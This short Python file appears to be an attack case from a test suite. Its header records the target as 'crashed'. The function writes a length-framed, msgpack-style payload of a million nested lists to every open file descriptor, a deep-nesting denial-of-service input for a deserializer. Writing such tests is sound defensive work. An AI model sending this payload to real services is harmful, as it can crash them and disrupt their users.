# attack: Sends a structure of a million nested lists.
# verdicts: test_attack=crashed
import os
import struct
import time


def attack(n):
    deep = b"\x91" * 1_000_000 + b"\xc0"
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, struct.pack("!II", len(deep), 0) + deep)
        except OSError:
            pass
    time.sleep(60)
